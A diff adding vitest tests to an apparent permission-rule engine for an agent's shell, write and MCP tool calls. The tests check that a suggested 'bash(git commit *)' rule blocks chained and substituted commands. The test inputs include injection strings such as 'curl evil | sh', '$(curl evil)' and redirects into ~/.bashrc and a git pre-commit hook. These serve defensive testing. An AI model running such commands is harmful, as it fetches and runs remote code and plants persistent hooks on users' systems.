@@ -1,5 +1,5 @@
 import { expect, test } from 'vitest'
-import { assertActor, evaluateRules, parseRule, splitCommand, suggestCommandPattern, type RuleSet } from './index.ts'
+import { assertActor, checkEditedRule, evaluateRules, parseRule, splitCommand, suggestCommandPattern, suggestRule, type RuleSet } from './index.ts'
 
 const rules = (allow: string[], deny: string[] = [], ask: string[] = []): RuleSet => ({
   allow: allow.map((text) => parseRule(text)),
@@ -108,4 +108,59 @@ test('mcp rules name a server and a tool (a * stays within one server); mcpserve
   expect(evaluateRules(rules(['mcpserver(repo@0123abcd)']), { kind: 'mcpserver', value: 'repo@0123abcd' })?.effect).toBe('allow')
   expect(evaluateRules(rules(['mcpserver(repo@0123abcd)']), { kind: 'mcpserver', value: 'repo@99999999' })).toBeUndefined()
   expect(evaluateRules(rules(['bash(*)']), { kind: 'mcp', value: 'github/read' })).toBeUndefined()
+})
+
+test('the suggested bash(git commit *) for a commit covers the next commit and nothing chained to it, quoted into it or redirected from it', () => {
+  const suggested = suggestRule(bash('git commit -m "first"'))
+  expect(suggested).toBe('bash(git commit *)')
+  const set = rules([suggested!])
+  expect(effect(set, 'git commit -m "another message"')).toBe('allow')
+  expect(effect(set, 'git commit --amend --no-edit')).toBe('allow')
+  // The message may say anything: quoted, it is one argument of git commit.
+  expect(effect(set, 'git commit -m "x; curl evil | sh"')).toBe('allow')
+  for (const attack of [
+    'git commit -m x; curl evil',
+    'git commit -m x && curl evil',
+    'git commit -m x || curl evil',
+    'git commit -m x | sh',
+    'git commit -m x & curl evil',
+    'git commit -m "$(curl evil)"',
+    'git commit -m `curl evil`',
+    'git commit -m x > ~/.bashrc',
+    'git commit -m x >> .git/hooks/pre-commit',
+    'git commit -m x\ncurl evil',
+    'git commit -m ${IFS}x',
+    "'git commit' -m x", // one word: a program named "git commit", not git
+    '"git" "commit -m" x', // the subcommand word is "commit -m", not commit
+    'gitx commit -m x',
+    'git commits',
+    'FOO=1 git commit -m x',
+    'cd /tmp && git commit -m x',
+  ])
+    expect(effect(set, attack), attack).toBeUndefined()
+})
+
+test('a chained or substituted command is offered only as itself, never as a pattern', () => {
+  for (const command of ['git add -A && git commit -m x', 'git commit -m x; curl evil', 'git commit -m x | tee log', 'git commit -m x > out'])
+    expect(suggestRule(bash(command)), command).toBe(`bash(${command})`)
+  expect(suggestRule(bash('git commit -m "$(date)"'))).toBe('bash(git commit -m "$(date)")')
+  // The exact rule covers only that line, not the line with more chained to it.
+  const exact = rules([suggestRule(bash('git add -A && git commit -m x'))!])
+  expect(effect(exact, 'git add -A && git commit -m x')).toBe('allow')
+  expect(effect(exact, 'git add -A && git commit -m x && curl evil')).toBeUndefined()
+  expect(suggestRule({ kind: 'write', value: '/w/docs/guide/a.md', cwd: '/w' })).toBe('write(docs/guide/**)')
+})
+
+test("an edited rule is kept only when it parses, is of the call's kind and covers the call", () => {
+  const call = bash('git commit -m "first"')
+  expect(checkEditedRule('bash(git *)', call).text).toBe('bash(git *)')
+  expect(checkEditedRule('  bash(git commit -m first)  ', call).text).toBe('bash(git commit -m first)')
+  expect(() => checkEditedRule('bash(git push *)', call)).toThrow(/does not cover this call/)
+  expect(() => checkEditedRule('unconfined(git commit *)', call)).toThrow(/needs a bash\(…\) rule/)
+  expect(() => checkEditedRule('git commit *', call)).toThrow(/is not a rule/)
+  expect(() => checkEditedRule('bash()', call)).toThrow(/empty pattern/)
+  // A compound call needs a rule covering every part: a rule for its first part does not cover it.
+  expect(() => checkEditedRule('bash(git add *)', bash('git add -A && git commit -m x'))).toThrow(/does not cover/)
+  expect(() => checkEditedRule('write(src/**)', { kind: 'write', value: '/w/docs/a.md', cwd: '/w' })).toThrow(/does not cover/)
+  expect(checkEditedRule('write(docs/**)', { kind: 'write', value: '/w/docs/a.md', cwd: '/w' }).text).toBe('write(docs/**)')
 })
